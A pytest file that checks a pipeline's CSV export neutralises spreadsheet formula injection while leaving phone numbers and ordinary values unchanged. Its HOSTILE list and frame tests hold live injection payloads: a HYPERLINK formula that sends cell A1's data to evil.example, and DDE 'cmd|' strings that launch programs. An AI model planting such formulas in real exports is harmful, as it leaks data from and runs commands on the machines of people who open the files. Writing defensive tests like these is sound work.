"""CSV injection: formula-like cells are neutralised, phone numbers and plain numbers kept."""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest

from cm_pipelines.domain.csv_cells import (
    neutralise_cell,
    neutralise_frame,
    neutralise_rows,
    safe_csv_bytes,
)

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
    "+",
    "-",
    "@",
]
KEPT = [
    "+6591234567",
    "+1 (415) 555-0123",
    "-12.5",
    "0491570156",
    "2026-11-02",
    "plain text",
    "a=b",
    "",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_formula_like_cells_get_a_leading_quote(value) -> None:
    assert neutralise_cell(value) == "'" + value


@pytest.mark.parametrize("value", KEPT)
def test_numbers_phones_and_ordinary_text_are_written_as_they_are(value) -> None:
    assert neutralise_cell(value) == value


def test_non_text_cells_are_left_alone() -> None:
    assert neutralise_cell(-5) == -5 and neutralise_cell(None) is None


def test_frames_and_rows_are_neutralised_cell_by_cell() -> None:
    frame = pd.DataFrame(
        {
            "phone": ["+6591234567", "=cmd|' /C calc'!A0"],
            "contact_ref": ["@SUM(A1:A9)", "C-1"],
            "count": [-1, 2],
        }
    )
    body = safe_csv_bytes(frame).decode()
    parsed = list(csv.reader(io.StringIO(body)))
    assert parsed[1] == ["+6591234567", "'@SUM(A1:A9)", "-1"]
    assert parsed[2] == ["'=cmd|' /C calc'!A0", "C-1", "2"]
    assert frame.loc[1, "phone"] == "=cmd|' /C calc'!A0"  # the input is not changed
    assert neutralise_frame(frame)["count"].tolist() == [-1, 2]
    assert neutralise_rows([["=1+1", "+61491570156", 3]]) == [["'=1+1", "+61491570156", 3]]


def test_access_package_csv_files_are_neutralised() -> None:
    from cm_pipelines.domain.dsar.export_package import category_csv

    body = category_csv([{"text": '=HYPERLINK("http://x")', "from": "+61491570156", "n": -3}])
    parsed = list(csv.reader(io.StringIO(body.decode())))
    assert parsed[1] == ['\'=HYPERLINK("http://x")', "+61491570156", "-3"]
